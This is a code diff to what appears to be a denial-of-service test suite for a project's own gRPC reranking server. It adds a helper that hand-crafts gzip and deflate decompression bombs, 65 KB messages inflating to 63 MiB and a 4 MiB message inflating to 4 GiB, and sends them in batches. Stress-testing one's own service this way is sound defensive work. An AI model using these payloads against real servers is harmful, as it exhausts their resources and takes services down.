@@ -1,7 +1,8 @@
 """Messages of gRPC that cost the server more than the client: compressed, half sent, or of many small parts."""
 
-import gzip
+import struct
 import zlib
+from functools import reduce
 
 from rerank.v2 import rerank_pb2 as pb
 
@@ -80,9 +81,19 @@ def half_sent_by_the_byte(target: Target) -> int:
     return again(target, hold)
 
 
-def _compressed(raw: bytes, bits: int) -> bytes:
-    packer = zlib.compressobj(9, zlib.DEFLATED, bits)
-    return packer.compress(raw) + packer.flush()
+def _compressed(start: bytes, repeated: bytes, times: int, *, gzip: bool = True) -> bytes:
+    """Return `start` and then `repeated` so often, compressed in far less time than it takes to inflate."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
+    first, again_ = (packer.compress(one) + packer.flush(zlib.Z_FULL_FLUSH) for one in (start, repeated))
+    content = first + again_ * times + b"\x03\0"
+    # Of what is far beyond any limit, nobody gets to check the sum.
+    whole = (repeated for _ in range(times if times <= _MESSAGE // _MIB else 0))
+    if gzip:
+        total = reduce(lambda sum_, one: zlib.crc32(one, sum_), whole, zlib.crc32(start))
+        size = (len(start) + times * len(repeated)) % 2**32
+        return b"\x1f\x8b\x08" + bytes(7) + content + struct.pack("<II", total, size)
+    total = reduce(lambda sum_, one: zlib.adler32(one, sum_), whole, zlib.adler32(start))
+    return b"\x78\xda" + content + struct.pack(">I", total)
 
 
 def _bombs(target: Target, encoding: str, packed: bytes, at_once: int = _BOMBS) -> int:
@@ -106,30 +117,33 @@ def _large() -> bytes:
     return _request(_field(3, b"a" * _MESSAGE))
 
 
+def _large_compressed(*, gzip: bool = True) -> bytes:
+    """Return such a request in 65 KB."""
+    return _compressed(_request(b"\x1a" + _varint(_MESSAGE)), b"a" * _MIB, _MESSAGE // _MIB, gzip=gzip)
+
+
 @attack()
 def gzip_bombs(target: Target) -> int:
     """Send 40 gzip messages of 65 KB at a time, each a valid request of 63 MiB."""
-    return _bombs(target, "gzip", gzip.compress(_large()))
+    return _bombs(target, "gzip", _large_compressed())
 
 
 @attack(keyed=True)
 def gzip_bombs_without_a_key(target: Target) -> int:
     """Send the same 40 messages, without a key."""
-    return _bombs(target, "gzip", gzip.compress(_large()))
+    return _bombs(target, "gzip", _large_compressed())
 
 
 @attack()
 def deflate_bombs(target: Target) -> int:
     """Send the same 40 messages in the other encoding that gRPC knows."""
-    return _bombs(target, "deflate", _compressed(_large(), 15))
+    return _bombs(target, "deflate", _large_compressed(gzip=False))
 
 
 @attack()
 def gzip_bomb_of_4_gib(target: Target) -> int:
     """Send one gzip message of 4 MiB that inflates to 4 GiB, one after the other."""
-    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
-    zeros = bytes(16 * _MIB)
-    return _bombs(target, "gzip", b"".join(packer.compress(zeros) for _ in range(256)) + packer.flush(), 1)
+    return _bombs(target, "gzip", _compressed(b"", bytes(_MIB), 4096), 1)
 
 
 def _one_by_one(target: Target, message: bytes) -> int:
